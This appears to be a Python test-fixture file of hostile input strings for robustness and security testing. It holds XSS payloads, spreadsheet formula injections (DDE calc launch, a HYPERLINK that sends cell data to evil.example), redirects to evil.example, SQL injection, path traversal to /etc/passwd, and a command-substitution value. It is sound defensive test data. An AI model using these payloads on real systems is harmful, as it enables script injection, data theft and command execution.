"""Texts that ask for trouble wherever somebody takes them for more than text.

Each that could run calls ran() with its number: a browser under test tells of that.
After the Big List of Naughty Strings and OWASP's cheat sheets, in words of our own.
"""

SCRIPTS = [
    "<script>ran(1)</script>",
    "</script><script>ran(2)</script>",
    "\"'><img src=x onerror=ran(3)>",
    "<svg/onload=ran(4)>",
    "</textarea></title></style><svg><script>ran(5)</script></svg>",
    "<iframe srcdoc='<script>parent.ran(6)</script>'></iframe>",
    "javascript:ran(7)",
    "<a href=\"javascript:ran(8)\">here</a>",
    "<details open ontoggle=ran(9)><summary>x</summary></details>",
    "<style>*{background:url(/evil)}</style><link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example><form action=//evil.example><button>OK",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "`${ran(10)}` #{ran(10)} {{constructor.constructor('ran(10)')()}} <%= ran(10) %>",
    "<!--<img src=\"--><img src=x onerror=ran(11)//\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran(12)>",
    "&lt;script&gt;ran(13)&lt;/script&gt; &#60;script&#62; \\u003cscript\\u003e %3Cscript%3E",
]

FORMULAS = [
    "=1+cmd|'/c calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!D2", "@SUM(1+9)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example?\"&A1,\"Error\")", "\t=1+1", "\r=1+1",
    "a\",=1+1,\"b", "one\ntwo", "\uff1d1+1",
]

LETTERS = [
    "שלום עולם, مرحبا بالعالم",                 # right to left
    "a\u202eevil\u202c b \u2066c\u2069",          # direction turned by control characters
    "zero\u200bwidth\u200d\ufeffjoined\u00ad",     # what nobody sees
    "Z\u0351\u0343\u0489\u0337a\u0327\u0356lg\u034e\u032fo" + "\u0301" * 40,
    "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏿 🇺🇳 𝕏",
    "田中さんにあげて下さい 사회과학원 ﷽",
    "\u2028line\u2029paragraph\u0085next",
    "W" * 400, "without-a-break/" * 40,
    "__proto__", "constructor", "null", "undefined", "NaN", "[object Object]", "true", "-1e309",
    "'; DROP TABLE patient; --", "../../../etc/passwd", "%s%n%x {0} $HOME `id`", "\\", "\"", "'",
]

ALL = SCRIPTS + FORMULAS + LETTERS
ONE_LINE_ASCII = [text for text in SCRIPTS + FORMULAS
                  if text.isascii() and text.isprintable()]
